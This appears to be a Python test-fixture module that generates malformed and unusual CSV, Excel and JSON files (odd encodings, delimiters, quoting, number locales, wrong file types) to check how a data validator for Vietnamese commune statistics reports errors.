"""An adversarial corpus of data files: malformed, hostile or merely unusual, built by code.

Every :class:`Case` writes its file(s) into a folder, names the ``dxf validate`` arguments and
says what a careful user needs from the run:

- ``ok``: exit status 0, and for the cells listed in ``values`` the number a person means
  (hand-written here, e.g. ``"1.234,5"`` → 1234.5 in a file that also writes ``"0,5"``), read
  back with ``get_pack(pack).level(level).load_data(...)``;
- ``error``: exit status 2, every line of standard error an ``error:`` (or ``warning:``) line
  that names the file and, where the case has one, the place (row, column, sheet).

The expectation is what the user needs, not what the code happens to do: where they differ,
the case carries an ``xfail`` reason (the test marks it ``xfail(strict=True)``).

Rows of the commune table built by :func:`commune` are lines of the CSV file: the header is
line 1 and unit ``i`` (0-based) is line ``i + 2``.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import math
import re
import unicodedata
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path
from typing import Any

__all__ = ["CASES", "Case", "commune"]

NAN = math.nan

# -- the tables the cases start from ---------------------------------------------------------

COMMUNE_HEADER = (
    "unit",
    "name",
    "level",
    "parent",
    "period",
    "population",
    "NT4",
    "NT6",
    "HT1",
    "HT2",
    "NL1",
    "NL2",
    "CQ1",
    "CQ3",
    "XH1",
    "XH3",
    "KT4",
    "KT5",
)
# integers only: no cell says how the table writes decimals (cases add that evidence)
COMMUNE_ROWS = tuple(
    tuple(line.split(","))
    for line in (
        "05801,Phường Bắc Kạn 01,commune,058,2024,5774,3,1,96,78,3,55,65,95,81,68,82,35",
        "05802,Phường Bắc Kạn 02,commune,058,2024,1996,5,1,83,100,2,62,55,81,75,75,69,32",
        "05803,Xã Dương Quang,commune,058,2024,3415,6,0,91,100,1,56,44,100,86,74,69,36",
        "05804,Xã Nông Thượng,commune,058,2024,3024,4,1,84,73,1,56,53,98,88,63,66,30",
    )
)
UNITS = tuple(r[0] for r in COMMUNE_ROWS)
NAMES = {r[0]: r[1] for r in COMMUNE_ROWS}
TEXT_COLUMNS = {"unit", "name", "level", "parent", "uCode", "uName"}

Rows = list[list[Any]]
VI = {"unit": "Mã", "name": "Tên", "period": "Năm"}  # Vietnamese headers


def commune(
    edits: Mapping[tuple[int, str], Any] | None = None,
    *,
    rename: Mapping[str, str] | None = None,
    drop: Sequence[str] = (),
    extra: Mapping[str, Sequence[Any]] | None = None,
    n: int = 4,
) -> Rows:
    """The commune table (header first) with cells replaced: ``{(unit index, column): text}``."""
    header = list(COMMUNE_HEADER)
    rows = [list(r) for r in COMMUNE_ROWS[:n]]
    for (i, col), v in (edits or {}).items():
        rows[i][header.index(col)] = v
    for col, values in (extra or {}).items():
        header.append(col)
        for r, v in zip(rows, values, strict=True):
            r.append(v)
    for col in drop:
        j = header.index(col)
        del header[j]
        for r in rows:
            del r[j]
    header = [(rename or {}).get(h, h) for h in header]
    return [header, *rows]


def typed(
    rows: Rows, text: Sequence[str] = ("unit", "name", "level", "parent", "Mã", "Tên")
) -> Rows:
    """Rows with numeric text as Python numbers (for workbooks and JSON); ids stay text."""
    header = rows[0]
    out: Rows = [list(header)]
    for r in rows[1:]:
        new = []
        for h, v in zip(header, r, strict=False):
            if isinstance(v, str) and h not in text and re.fullmatch(r"-?\d+(\.\d+)?", v):
                v = float(v) if "." in v else int(v)
            new.append(v)
        out.append(new)
    return out


def records(rows: Rows) -> list[dict[str, Any]]:
    """Rows (header first, typed) as JSON records."""
    return [dict(zip(rows[0], r, strict=True)) for r in typed(rows)[1:]]


def _sample(pack: str, level: str) -> Path:
    import dxframework

    path = dxframework.get_pack(pack).level(level).data_path
    assert path is not None
    return path


def sample_rows(pack: str, level: str) -> Rows:
    """The pack's sample data file, as rows of text."""
    with _sample(pack, level).open(newline="", encoding="utf-8-sig") as fh:
        return [list(r) for r in csv.reader(fh)]


def district_rows(n: int = 8, period: str = "2024") -> Rows:
    """The district sample, one period."""
    rows = sample_rows("backan", "district")
    j = rows[0].index("period")
    return [rows[0], *[r for r in rows[1:] if r[j] == period][:n]]


def edit(rows: Rows, edits: Mapping[tuple[int, str], Any]) -> Rows:
    """A copy of ``rows`` with cells replaced: ``{(data row index, column): value}``."""
    out = [list(r) for r in rows]
    for (i, col), v in edits.items():
        out[i + 1][out[0].index(col)] = v
    return out


# -- writing files ---------------------------------------------------------------------------
def csv_text(rows: Rows, delimiter: str = ",", newline: str = "\n") -> str:
    """CSV text; a cell is quoted when it holds the delimiter, a quote or a line break."""

    def cell(v: Any) -> str:
        text = "" if v is None else str(v)
        if any(ch in text for ch in (delimiter, '"', "\r", "\n")):
            return '"' + text.replace('"', '""') + '"'
        return text

    return "".join(delimiter.join(cell(v) for v in r) + newline for r in rows)


def cp1258(text: str) -> bytes:
    """Vietnamese text as Windows-1258 writes it: base letters with combining tone marks."""
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        d = unicodedata.normalize("NFD", ch)
        base, marks = d[0], d[1:]
        for k in [*range(len(marks)), None]:  # compose the base with one mark (â, ơ…), or none
            head = base if k is None else unicodedata.normalize("NFC", base + marks[k])
            rest = marks if k is None else marks[:k] + marks[k + 1 :]
            try:
                out += head.encode("cp1258") + rest.encode("cp1258")
                break
            except UnicodeEncodeError:
                continue
        else:  # pragma: no cover - not Vietnamese
            raise UnicodeEncodeError("cp1258", ch, 0, 1, "no cp1258 form")
    return bytes(out)


Build = Callable[[Path], list[Path]]


def write(folder: Path, name: str, data: bytes | str) -> Path:
    p = folder / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return p


def raw(data: bytes | str, name: str = "data.csv") -> Build:
    """A file with exactly these bytes (text is written as UTF-8)."""
    return lambda folder: [write(folder, name, data)]


def as_csv(
    rows: Rows,
    name: str = "data.csv",
    *,
    delimiter: str = ",",
    newline: str = "\n",
    encoding: str = "utf-8",
    bom: bytes = b"",
) -> Build:
    def build(folder: Path) -> list[Path]:
        text = csv_text(rows, delimiter, newline)
        data = cp1258(text) if encoding == "cp1258" else text.encode(encoding)
        return [write(folder, name, bom + data)]

    return build


def lines(*text: str, name: str = "data.csv") -> Build:
    """A CSV written line by line (for malformed structure csv.writer would not produce)."""
    return raw("\n".join(text) + "\n", name)


def as_json(doc: Any, name: str = "data.json", **dump: Any) -> Build:
    return raw(json.dumps(doc, ensure_ascii=False, **dump), name)


@dataclass
class Sheet:
    """A worksheet for :func:`as_xlsx`: rows of Python values written from ``origin``."""

    title: str
    rows: Rows
    state: str = "visible"
    origin: tuple[int, int] = (1, 1)  # row, column of the first cell (1-based)
    formats: Mapping[tuple[int, str], str] = field(default_factory=dict)  # (data row, col)
    merges: Sequence[str] = ()
    text_cells: Sequence[tuple[int, str]] = ()  # (data row, col) written as text, even "=…"


def workbook_bytes(sheets: Sequence[Sheet]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for s in sheets:
        ws = wb.create_sheet(s.title)
        r0, c0 = s.origin
        header = s.rows[0] if s.rows else []
        for i, row in enumerate(s.rows):
            for j, v in enumerate(row):
                if v is None:
                    continue
                ws.cell(row=r0 + i, column=c0 + j, value=v)
        for (i, col), fmt in s.formats.items():
            ws.cell(row=r0 + i + 1, column=c0 + header.index(col)).number_format = fmt
        for i, col in s.text_cells:
            cell = ws.cell(row=r0 + i + 1, column=c0 + header.index(col))
            cell.data_type = "s"
        for m in s.merges:
            ws.merge_cells(m)
        ws.sheet_state = s.state
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def as_xlsx(*sheets: Sheet, name: str = "data.xlsx") -> Build:
    return lambda folder: [write(folder, name, workbook_bytes(sheets))]


def titled(rows: Rows, *titles: Sequence[Any]) -> Rows:
    """Title rows (and blank rows: ``()``) above a table."""
    return [list(t) for t in titles] + [list(r) for r in rows]


def files(*builds: Build) -> Build:
    """Several files, each given to ``--data``."""
    return lambda folder: [p for b in builds for p in b(folder)]


def folder_of(*builds: Build, name: str = "submissions") -> Build:
    """A folder holding the files; the folder is given to ``--data``."""

    def build(folder: Path) -> list[Path]:
        sub = folder / name
        sub.mkdir(parents=True, exist_ok=True)
        for b in builds:
            b(sub)
        return [sub]

    return build


def missing_file(name: str = "nowhere.csv") -> Build:
    return lambda folder: [folder / name]


FRAMEWORK = "framework.toml"


def with_framework(build: Build, changes: Mapping[str, Mapping[str, Any]]) -> Build:
    """Also write ``framework.toml``: the commune framework with indicator fields changed.

    ``changes`` maps an indicator code to the fields to set (``unit``, ``bounds``, ``integer``).
    """

    def make(folder: Path) -> list[Path]:
        text = (_sample("backan", "commune").parent / "framework-commune.toml").read_text("utf-8")
        blocks = text.split("[[indicators]]")
        out = [blocks[0]]
        for block in blocks[1:]:
            m = re.search(r'code = "([^"]+)"', block)
            code = m.group(1) if m else ""
            for key, value in changes.get(code, {}).items():
                line = f"{key} = {_toml_value(value)}"
                if re.search(rf"^{key} = .*$", block, re.M):
                    block = re.sub(rf"^{key} = .*$", line, block, count=1, flags=re.M)
                else:
                    block = block.replace(f'code = "{code}"\n', f'code = "{code}"\n{line}\n', 1)
            out.append(block)
        write(folder, FRAMEWORK, "[[indicators]]".join(out))
        return build(folder)

    return make


def _toml_value(v: Any) -> str:
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, str):
        return json.dumps(v, ensure_ascii=False)
    if isinstance(v, list | tuple):
        return "[" + ", ".join(_toml_value(x) for x in v) + "]"
    return repr(v)


# -- the case --------------------------------------------------------------------------------
Values = Mapping[tuple[str, str], float]


@dataclass(frozen=True)
class Case:
    """One file (or a few) and what ``dxf validate`` must do with it.

    ``row``, ``column`` and ``sheet`` are the place an error must name; ``says`` is a regular
    expression the error text must match (case-insensitive); ``files`` are names that must
    appear on standard error (default: the first data file's name). ``framework`` names a
    framework file the case writes (passed as ``--framework``).
    """

    name: str
    build: Build
    expect: str  # "ok" | "error"
    args: tuple[str, ...] = ()
    pack: str = "backan"
    level: str | None = "commune"
    values: Values = field(default_factory=dict)
    names: Mapping[str, str] = field(default_factory=dict)
    row: int | None = None
    column: str | None = None
    sheet: str | None = None
    says: str | None = None
    files: tuple[str, ...] | None = None
    framework: str | None = None
    subprocess: bool = False
    check_outputs: bool = False  # also `dxf run` and check the outputs are safe to open
    xfail: str | None = None

    def __post_init__(self) -> None:
        assert self.expect in ("ok", "error"), self.expect

    def options(self) -> dict[str, Any]:
        """``load_data`` options that the CLI arguments ask for."""
        opts: dict[str, Any] = {}
        args = list(self.args)
        for flag, key in (("--locale", "locale"), ("--encoding", "encoding"), ("--sheet", "sheet")):
            if flag in args:
                opts[key] = args[args.index(flag) + 1]
        if "--period" in args:
            opts["period"] = int(args[args.index("--period") + 1])
        return opts


CASES: list[Case] = []


def ok(name: str, build: Build, values: Values | None = None, **kw: Any) -> None:
    CASES.append(Case(name, build, "ok", values=values or {}, **kw))


def error(name: str, build: Build, **kw: Any) -> None:
    CASES.append(Case(name, build, "error", **kw))


# ============================================================================================
# baselines
# ============================================================================================
ok(
    "csv_baseline",
    as_csv(commune()),
    {("05801", "HT1"): 96, ("05804", "population"): 3024, ("05803", "NT6"): 0},
    names=NAMES,
)
ok(
    "csv_sample_file_copy",
    lambda folder: [write(folder, "communes.csv", _sample("backan", "commune").read_bytes())],
    {("05801", "HT1"): 96.0, ("05801", "NL1"): 3.05, ("05802", "population"): 1996},
)
ok(
    "district_sample_copy",
    lambda folder: [write(folder, "districts.csv", _sample("backan", "district").read_bytes())],
    level="district",
)
ok(
    "asem_sample_copy",
    lambda folder: [write(folder, "asem.csv", _sample("asem", "country").read_bytes())],
    {("AUT", "Area"): 83871, ("AUT", "Energy"): 27},
    pack="asem",
    level=None,
)
ok(
    "csv_decimal_points",
    as_csv(commune({(0, "HT1"): "96.5", (1, "NL1"): "2.59", (2, "population"): "3415"})),
    {("05801", "HT1"): 96.5, ("05802", "NL1"): 2.59},
)
ok("level_chosen_from_header", as_csv(commune()), {("05801", "HT1"): 96}, level=None)
# without --level, the level is chosen from the file's header: the same file, written other ways
AUTO: dict[str, Any] = {"level": None}
ok("level_from_header_semicolon", as_csv(commune(), delimiter=";"), {("05801", "HT1"): 96}, **AUTO)
ok(
    "level_from_header_utf16",
    as_csv(commune(), encoding="utf-16-le", bom=codecs.BOM_UTF16_LE),
    {("05801", "HT1"): 96},
    **AUTO,
)
ok(
    "level_from_header_cp1258_vi_headers",
    as_csv(commune(rename=VI), encoding="cp1258"),
    {("05801", "HT1"): 96},
    args=("--encoding", "cp1258"),
    **AUTO,
)
ok(
    "level_from_header_title_rows_csv",
    as_csv(titled(commune(), ["BÁO CÁO CẤP XÃ"], [])),
    {("05801", "HT1"): 96},
    **AUTO,
)
ok(
    "level_from_header_title_rows_xlsx",
    lambda folder: as_xlsx(Sheet("Data", titled(typed(commune()), ["BÁO CÁO CẤP XÃ"], [])))(folder),
    {("05801", "HT1"): 96},
    **AUTO,
)
ok(
    "level_from_header_lower_case_codes",
    as_csv(commune(rename={c: c.lower() for c in COMMUNE_HEADER[6:]})),
    {("05801", "HT1"): 96},
    **AUTO,
)
ok(
    "level_from_header_json",
    lambda folder: as_json(records(commune()))(folder),
    {("05801", "HT1"): 96},
    **AUTO,
)

# ============================================================================================
# headers
# ============================================================================================
ok("vi_headers_ma_ten_nam", as_csv(commune(rename=VI)), {("05803", "HT1"): 91}, names=NAMES)
ok(
    "vi_headers_long_forms",
    as_csv(commune(rename={"unit": "Mã đơn vị", "name": "Tên đơn vị", "period": "Năm"})),
    {("05803", "HT1"): 91},
    names=NAMES,
)
ok(
    "vi_headers_nfd",
    as_csv(commune(rename={k: unicodedata.normalize("NFD", v) for k, v in VI.items()})),
    {("05802", "CQ1"): 55},
    names=NAMES,
)
ok(
    "vi_headers_upper_case",
    as_csv(commune(rename={"unit": "MÃ", "name": "TÊN", "period": "NĂM"})),
    {("05802", "CQ1"): 55},
)
ok(
    "vi_headers_in_semicolon_cp1258",
    as_csv(commune(rename=VI), delimiter=";", encoding="cp1258"),
    {("05804", "KT5"): 30},
    names=NAMES,
    args=("--encoding", "cp1258"),
)
ok(
    "indicator_header_lower_case",
    as_csv(commune(rename={"HT1": "ht1", "NT4": "nt4"})),
    {("05801", "HT1"): 96, ("05802", "NT4"): 5},
)
ok(
    "indicator_header_mixed_case",
    as_csv(commune(rename={"HT1": "Ht1", "KT5": "kT5", "population": "Population"})),
    {("05801", "HT1"): 96, ("05801", "KT5"): 35, ("05801", "population"): 5774},
)
ok(
    "indicator_header_padded",
    as_csv(commune(rename={"HT1": "  HT1 ", "unit": " unit"})),
    {("05801", "HT1"): 96},
)
ok(
    "indicator_header_nbsp_padded",
    as_csv(commune(rename={"HT1": "HT1\u00a0"})),
    {("05801", "HT1"): 96},
)
_D = district_rows()
ok(
    "indicator_header_accented_d",
    as_csv([["ĐT1" if h == "DT1" else h for h in _D[0]], *_D[1:]]),
    {("058", "DT1"): float(_D[1][_D[0].index("DT1")])},
    level="district",
)
error(
    "duplicate_indicator_header_case",
    as_csv(commune(extra={"ht1": ["1", "2", "3", "4"]})),
    says="HT1|ht1",
)
error(
    "duplicate_indicator_header_exact",
    as_csv(commune(extra={"HT1": ["1", "2", "3", "4"]})),
    column="HT1",
)
error(
    "duplicate_unit_column_header",
    as_csv(commune(extra={"unit": ["x1", "x2", "x3", "x4"]})),
    column="unit",
)
error("unknown_column", as_csv(commune(extra={"HT9": ["1", "2", "3", "4"]})), column="HT9", row=1)
error(
    "unknown_column_vietnamese_notes",
    as_csv(commune(extra={"Ghi chú": ["", "đã kiểm tra", "", ""]})),
    column="Ghi chú",
)
error(
    "duplicate_header_nfc_nfd",
    as_csv(commune(rename=VI, extra={unicodedata.normalize("NFD", "Tên"): ["a", "b", "c", "d"]})),
    row=1,
    says="duplicate",
)
ok(
    "excel_sep_line",
    raw("sep=;\n" + csv_text(commune({(0, "HT1"): "96,5"}), delimiter=";")),
    {("05801", "HT1"): 96.5, ("05802", "HT1"): 83},
)
ok(
    "excel_vi_csv_utf8",
    as_csv(
        commune({(0, "HT1"): "96,5", (1, "population"): "1.996", (2, "NL1"): "1,75"}, rename=VI),
        delimiter=";",
        newline="\r\n",
        bom=codecs.BOM_UTF8,
    ),
    {("05801", "HT1"): 96.5, ("05802", "population"): 1996, ("05803", "NL1"): 1.75},
    names=NAMES,
)
error("missing_required_column", as_csv(commune(drop=["HT1"])), column="HT1")
error("missing_unit_column", as_csv(commune(drop=["unit"])), says="unit")
error(
    "blank_header_over_values",
    as_csv(commune(extra={"": ["7", "8", "9", "10"]})),
    row=1,
    says="header|column",
)
ok(
    "blank_header_over_empty_column",
    as_csv(commune(extra={"": ["", "", "", ""]})),
    {("05801", "HT1"): 96},
)
ok(
    "trailing_delimiter_every_line",
    raw("".join(line + ",\n" for line in csv_text(commune()).splitlines())),
    {("05804", "KT5"): 30},
)
error(
    "header_only",
    as_csv(commune(n=0)),
    says="no (data )?rows|no units|empty|no data",
)
ok(
    "title_rows_above_header",
    as_csv(titled(commune(), ["BÁO CÁO CHỈ SỐ CHUYỂN ĐỔI SỐ CẤP XÃ NĂM 2024"], [], ["Đơn vị: %"])),
    {("05802", "HT1"): 83},
)
error(
    "title_rows_then_bad_value_row_number",
    as_csv(titled(commune({(2, "HT1"): "chín mươi"}), ["BÁO CÁO"], [], ["Đơn vị: %"])),
    row=7,  # 3 title lines, the header on line 4, units on lines 5-8
    column="HT1",
)
error(
    "header_not_found_after_40_title_rows",
    as_csv(titled(commune(), *[[f"ghi chú {i}"] for i in range(40)])),
    says="unit",
)

# ============================================================================================
# encodings and byte-order marks
# ============================================================================================
ok("utf8_bom", as_csv(commune(), bom=codecs.BOM_UTF8), {("05803", "HT1"): 91}, names=NAMES)
ok(
    "utf8_bom_semicolon_vi_headers",
    as_csv(commune(rename=VI), delimiter=";", bom=codecs.BOM_UTF8),
    {("05803", "HT1"): 91},
    names=NAMES,
)
ok(
    "utf16_le_bom",
    as_csv(commune(), encoding="utf-16-le", bom=codecs.BOM_UTF16_LE),
    {("05803", "HT1"): 91},
    names=NAMES,
)
ok(
    "utf16_be_bom",
    as_csv(commune(), encoding="utf-16-be", bom=codecs.BOM_UTF16_BE),
    {("05803", "HT1"): 91},
    names=NAMES,
)
ok(
    "utf16_tab_delimited_excel_unicode_text",
    as_csv(
        commune(), delimiter="\t", encoding="utf-16-le", bom=codecs.BOM_UTF16_LE, newline="\r\n"
    ),
    {("05803", "HT1"): 91},
    names=NAMES,
)
error("utf16_le_without_bom", as_csv(commune(), encoding="utf-16-le"))
error(
    "cp1258_without_encoding",
    as_csv(commune(), encoding="cp1258"),
    says="encoding|utf-8",
)
ok(
    "cp1258_with_encoding",
    as_csv(commune(), encoding="cp1258"),
    {("05803", "HT1"): 91},
    names=NAMES,
    args=("--encoding", "cp1258"),
)
LATIN = commune(
    {(i, "name"): n for i, n in enumerate(("Commune Ménard", "Université Côté", "Ça", "Øre"))}
)
error("latin1_without_encoding", as_csv(LATIN, encoding="latin-1"), says="encoding|utf-8")
ok(
    "latin1_with_encoding",
    as_csv(LATIN, encoding="latin-1"),
    {("05801", "HT1"): 96},
    names={"05801": "Commune Ménard", "05802": "Université Côté"},
    args=("--encoding", "latin-1"),
)
error("unknown_encoding_argument", as_csv(commune()), args=("--encoding", "klingon-8"))
error("empty_file", raw(b""))
error("bom_only_file", raw(codecs.BOM_UTF8))
error("whitespace_only_file", raw(b"  \n\n \t \n"))
error("utf16_bom_only", raw(codecs.BOM_UTF16_LE))
error(
    "utf16_bom_odd_byte_count",
    raw(codecs.BOM_UTF16_LE + csv_text(commune()).encode("utf-16-le") + b"\x00"),
)
error(
    "invalid_utf8_byte_mid_file",
    raw(csv_text(commune()).encode("utf-8").replace("Xã Nông".encode(), b"X\xff N\xf4ng")),
    says="utf-8|encoding",
)
error("nul_bytes_in_csv", raw(csv_text(commune()).replace("96", "9\x006")))

# ============================================================================================
# structure: line endings, quotes, delimiters, ragged rows
# ============================================================================================
ok("crlf_line_endings", as_csv(commune(), newline="\r\n"), {("05804", "KT5"): 30})
ok("cr_only_line_endings", as_csv(commune(), newline="\r"), {("05804", "KT5"): 30})
ok(
    "mixed_line_endings",
    raw(
        "".join(
            line + ("\r\n" if k % 2 else "\n")
            for k, line in enumerate(csv_text(commune()).splitlines())
        )
    ),
    {("05804", "KT5"): 30},
)
ok(
    "no_final_newline",
    raw(csv_text(commune()).rstrip("\n")),
    {("05804", "KT5"): 30},
)
ok(
    "blank_lines_between_rows",
    raw(csv_text(commune()).replace("\n", "\n\n", 2)),
    {("05804", "KT5"): 30, ("05801", "HT1"): 96},
)
_blank = csv_text(commune({(3, "HT2"): "x"})).splitlines()
error(
    "blank_lines_then_error_row_number",
    raw("\n".join([_blank[0], "", "", *_blank[1:]]) + "\n"),
    row=7,  # header, two blank lines, units on lines 4-7
    column="HT2",
)
ok(
    "quoted_newline_in_name",
    as_csv(commune({(1, "name"): "Phường Bắc Kạn\n(02)"})),
    {("05803", "HT1"): 91},
    names={"05802": "Phường Bắc Kạn\n(02)"},
)
error(
    "quoted_newline_then_error_row_number",
    as_csv(commune({(1, "name"): "Phường\nBắc Kạn\n02", (2, "HT1"): "n/a?"})),
    row=6,  # header 1, unit 1 on 2, unit 2 on lines 3-5, unit 3 starts on line 6
    column="HT1",
)
ok(
    "quoted_delimiter_in_name",
    as_csv(commune({(0, "name"): "Xã A, thôn B; tổ C"})),
    {("05801", "HT1"): 96},
    names={"05801": "Xã A, thôn B; tổ C"},
)
ok(
    "quoted_every_field",
    raw("".join(",".join(f'"{c}"' for c in r) + "\n" for r in commune())),
    {("05801", "HT1"): 96, ("05801", "population"): 5774},
)
error("unclosed_quote_at_end", raw(csv_text(commune()) + '05805,"Xã Mới,commune,058,2024\n'))
error(
    "stray_quote_in_number",
    lines(
        *csv_text(commune()).splitlines()[:2],
        csv_text(commune()).splitlines()[2].replace(",83,", ',8"3,'),
    ),
    row=3,
)
error(
    "ragged_short_row",
    lines(
        *csv_text(commune()).splitlines()[:3], csv_text(commune()).splitlines()[3].rsplit(",", 2)[0]
    ),
    row=4,
)
error(
    "ragged_long_row",
    lines(*csv_text(commune()).splitlines()[:4], csv_text(commune()).splitlines()[4] + ",99"),
    row=5,
)
error(
    "unquoted_decimal_comma_in_comma_csv",
    lines(
        *csv_text(commune()).splitlines()[:2],
        csv_text(commune()).splitlines()[2].replace(",83,", ",82,6,"),
    ),
    row=3,
)
ok(
    "semicolon_delimiter",
    as_csv(commune(), delimiter=";"),
    {("05802", "HT2"): 100},
)
ok("tab_delimiter_csv", as_csv(commune(), delimiter="\t"), {("05802", "HT2"): 100})
ok("tsv_suffix", as_csv(commune(), "data.tsv", delimiter="\t"), {("05802", "HT2"): 100})
ok("txt_suffix", as_csv(commune(), "data.txt"), {("05802", "HT2"): 100})
error("pipe_delimiter", as_csv(commune(), delimiter="|"), row=1, says="separated by '\\|'")
ok(
    "semicolon_with_decimal_commas",
    as_csv(commune({(0, "HT1"): "96,5", (1, "NL1"): "2,59"}), delimiter=";"),
    {("05801", "HT1"): 96.5, ("05802", "NL1"): 2.59, ("05803", "HT1"): 91},
)
ok(
    "semicolon_header_with_commas_in_names",
    as_csv(
        commune({(0, "name"): "Xã A, B, C, D, E, F, G, H, I, J, K, L, M, N, O, P, Q, R, S"}),
        delimiter=";",
    ),
    {("05801", "HT1"): 96},
)

# ============================================================================================
# not a CSV at all
# ============================================================================================
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
error("png_bytes_named_csv", raw(PNG))
error(
    "xlsx_bytes_named_csv",
    lambda folder: [write(folder, "data.csv", workbook_bytes([Sheet("S", typed(commune()))]))],
)
error("csv_text_named_xlsx", raw(csv_text(commune()), "data.xlsx"))
error("csv_text_named_json", raw(csv_text(commune()), "data.json"))
error("json_text_named_csv", raw(json.dumps(records(commune())), "data.csv"))
error("unsupported_suffix_parquet", raw(b"PAR1\x00\x00PAR1", "data.parquet"))
error("no_suffix", raw(csv_text(commune()), "data"))
error("missing_file", missing_file(), says="not found")
error(
    "random_zip_named_xlsx", lambda folder: [write(folder, "data.xlsx", _zip({"hello.txt": b"hi"}))]
)
error(
    "xlsx_zip_entry_needs_newer_version",
    lambda folder: [
        write(
            folder, "data.xlsx", zip_version_needed(workbook_bytes([Sheet("S", typed(commune()))]))
        )
    ],
)
error(
    "truncated_xlsx",
    lambda folder: [
        write(folder, "data.xlsx", workbook_bytes([Sheet("S", typed(commune()))])[:1500])
    ],
)


def _zip(members: Mapping[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for k, v in members.items():
            z.writestr(k, v)
    return buf.getvalue()


def zip_version_needed(data: bytes, version: int = 0xFF) -> bytes:
    """A zip whose central directory says its entries need zip version 25.5 to extract.

    Calamine reads such a workbook; Python's ``zipfile`` refuses it (NotImplementedError).
    """
    out = bytearray(data)
    k = out.find(b"PK\x01\x02")
    while k >= 0:
        out[k + 6] = version
        k = out.find(b"PK\x01\x02", k + 4)
    return bytes(out)


def _xlsx_with_part(part: str, data: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(workbook_bytes([Sheet("S", typed(commune()))])))
    members = {n: src.read(n) for n in src.namelist()}
    members[part] = data
    return _zip(members)


error(
    "xlsx_with_garbage_sheet_xml",
    lambda folder: [
        write(folder, "data.xlsx", _xlsx_with_part("xl/worksheets/sheet1.xml", b"<not xml"))
    ],
)

# ============================================================================================
# numbers: separators and locales (the base table writes integers only: no evidence)
# ============================================================================================
error(
    "ambiguous_dot_no_evidence",
    as_csv(commune({(1, "population"): "1.234"})),
    row=3,
    column="population",
    says="1.234",
)
error(
    "ambiguous_comma_no_evidence",
    as_csv(commune({(1, "population"): "1,227"})),
    row=3,
    column="population",
    says="1,227",
)
error(
    "ambiguous_comma_no_evidence_semicolon",
    as_csv(commune({(2, "NL1"): "1,227"}), delimiter=";"),
    row=4,
    column="NL1",
)
error(
    "ambiguous_dot_percent_no_evidence",
    as_csv(commune({(0, "HT1"): "1.500%"})),
    row=2,
    column="HT1",
)
ok(
    "dot_group_with_comma_decimal_evidence",
    as_csv(commune({(1, "population"): "1.234", (0, "NL1"): "0,5"}), delimiter=";"),
    {("05802", "population"): 1234, ("05801", "NL1"): 0.5},
)
ok(
    "vi_grouped_decimal_with_evidence",
    as_csv(commune({(1, "population"): "1.234,5", (0, "NL1"): "0,5"}), delimiter=";"),
    {("05802", "population"): 1234.5, ("05801", "NL1"): 0.5},
)
ok(
    "vi_grouped_decimal_alone",
    as_csv(commune({(1, "population"): "1.234,5"}), delimiter=";"),
    {("05802", "population"): 1234.5},
)
ok(
    "en_grouped_decimal_alone",
    as_csv(commune({(1, "population"): "1,234.5"})),
    {("05802", "population"): 1234.5},
)
ok(
    "dot_decimal_with_point_evidence",
    as_csv(commune({(1, "NL1"): "1.234", (0, "NL1"): "12.75"})),
    {("05802", "NL1"): 1.234, ("05801", "NL1"): 12.75},
)
ok(
    "comma_group_with_point_evidence",
    as_csv(commune({(1, "population"): "1,227", (0, "NL1"): "12.75"})),
    {("05802", "population"): 1227, ("05801", "NL1"): 12.75},
)
ok(
    "dot_groups_million",
    as_csv(commune({(1, "population"): "1.234.567"})),
    {("05802", "population"): 1234567},
)
ok(
    "comma_groups_million",
    as_csv(commune({(1, "population"): "1,234,567"})),
    {("05802", "population"): 1234567},
)
ok(
    "dot_groups_imply_comma_decimal",
    as_csv(commune({(0, "population"): "1.234.567", (1, "population"): "1.996"})),
    {("05801", "population"): 1234567, ("05802", "population"): 1996},
)
ok(
    "evidence_in_another_column",
    as_csv(commune({(3, "HT1"): "84,5", (1, "population"): "1.996"}), delimiter=";"),
    {("05804", "HT1"): 84.5, ("05802", "population"): 1996},
)
error(
    "two_ways_in_one_table",
    as_csv(commune({(0, "NL1"): "0,5", (1, "NL1"): "12.75"}), delimiter=";"),
    says="two ways|both",
)
error(
    "two_ways_groups",
    as_csv(commune({(0, "population"): "1.234.567", (1, "population"): "1,234,567"})),
    says="two ways|both",
)
ok(
    "locale_vi_reads_dot_as_group",
    as_csv(commune({(1, "population"): "1.234"})),
    {("05802", "population"): 1234},
    args=("--locale", "vi"),
)
ok(
    "locale_en_reads_dot_as_decimal",
    as_csv(commune({(1, "NL1"): "1.234"})),
    {("05802", "NL1"): 1.234},
    args=("--locale", "en"),
)
ok(
    "locale_en_reads_comma_as_group",
    as_csv(commune({(1, "population"): "1,227"})),
    {("05802", "population"): 1227},
    args=("--locale", "en"),
)
ok(
    "locale_vi_reads_comma_as_decimal",
    as_csv(commune({(1, "NL1"): "1,227"}), delimiter=";"),
    {("05802", "NL1"): 1.227},
    args=("--locale", "vi"),
)
ok(
    "locale_vi_full_vietnamese_file",
    as_csv(
        commune(
            {(0, "population"): "5.774", (0, "NL1"): "3,05", (1, "HT1"): "82,6", (2, "HT2"): "99,5"}
        ),
        delimiter=";",
    ),
    {("05801", "population"): 5774, ("05801", "NL1"): 3.05, ("05802", "HT1"): 82.6},
    args=("--locale", "vi"),
)
error(
    "locale_vi_rejects_point_decimal",
    as_csv(commune({(2, "HT1"): "12.5"})),
    args=("--locale", "vi"),
    row=4,
    column="HT1",
)
error(
    "locale_en_rejects_comma_decimal",
    as_csv(commune({(2, "HT1"): "12,5"})),
    args=("--locale", "en"),
    row=4,
    column="HT1",
)
error(
    "locale_en_rejects_dot_groups",
    as_csv(commune({(2, "population"): "1.234.567"})),
    args=("--locale", "en"),
    row=4,
    column="population",
)
